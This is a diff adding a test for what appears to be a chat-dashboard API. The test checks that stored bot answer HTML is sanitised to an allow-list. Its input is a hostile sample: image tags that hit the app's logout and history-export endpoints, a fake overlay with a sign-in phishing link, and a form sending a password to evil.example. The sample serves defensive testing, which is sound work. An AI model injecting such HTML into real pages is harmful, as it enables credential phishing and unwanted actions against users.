@@ -206,6 +206,21 @@ describe('POST /api/bot/messages', () => {
   });
 });
 
+describe('the answer HTML stored (issue 52)', () => {
+  it('keeps the contract\'s allow-list only: no class, style, id, form, nor image of the dashboard\'s own API', async () => {
+    const sessionId = newSessionId();
+    const hostile =
+      '<p>On its way.</p><img src="/api/logout" alt=""><img src="http://127.0.0.1:3000/api/export/history?format=csv" alt="">' +
+      '<div class="modal d-block position-fixed" style="z-index:9999" id="root"><a class="btn" href="https://evil.example/sign-in">Sign in again</a></div>' +
+      '<form action="https://evil.example/steal"><input name="password"></form><img src="https://cdn.example.net/box.png" alt="box">';
+    expect((await botPost(testApp, '/api/bot/messages', message({ session_id: sessionId, api_response: hostile }))).status).toBe(200);
+    const [row] = await sqlRows<{ api_response: string }>(testApp.db, sql`SELECT api_response FROM history WHERE session_id = ${sessionId}`);
+    expect(row?.api_response).toBe(
+      '<p>On its way.</p><span></span><span></span><div><a href="https://evil.example/sign-in" rel="noopener noreferrer nofollow" target="_blank">Sign in again</a></div><img src="https://cdn.example.net/box.png" alt="box" />',
+    );
+  });
+});
+
 describe('POST /api/bot/messages validation', () => {
   const long = (length: number) => 'x'.repeat(length);
   it.each([
